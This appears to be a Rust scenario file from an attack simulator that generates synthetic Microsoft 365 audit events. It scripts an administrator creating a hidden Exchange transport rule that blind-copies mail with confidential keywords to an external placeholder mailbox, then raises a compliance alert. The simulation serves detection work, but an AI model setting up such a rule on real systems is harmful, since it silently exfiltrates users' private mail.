//! A rule for everybody's mail.

use crate::life::attempt::Second;
use crate::scenarios::Scenario;
use crate::session::{Session, WEB_MAIL};
use crate::stage::Stage;
use crate::world::applications::{EXCHANGE_ADMIN_CENTER, EXCHANGE_ONLINE};

pub(super) const SCENARIO: Scenario = Scenario::attack("transport-rule", "T1114.003", &[74], play);

fn play(stage: &mut Stage<'_>) -> Option<String> {
    let administrator = stage.administrator()?;
    let target = (EXCHANGE_ADMIN_CENTER, EXCHANGE_ONLINE);
    let mut session = Session::begin(stage, administrator, ("Milan", 20), target, Second::Earlier);
    let name = "Journal 2";
    let parameters = vec![
        ("Name", String::from(name)),
        ("SubjectOrBodyContainsWords", String::from("contract;offer;confidential")),
        ("BlindCopyTo", format!("journal.{}@mailbox.example", stage.number())),
        ("Priority", String::from("0")),
        ("Enabled", String::from("True")),
    ];
    session.command(stage, "New-TransportRule", WEB_MAIL, String::from(name), parameters);
    session.compliance_alert(stage, "Creation of forwarding/redirect rule");
    Some(format!(
        "With the session of {}, someone made a rule that sends copies of confidential mail of all people outside.",
        administrator.sign_in
    ))
}
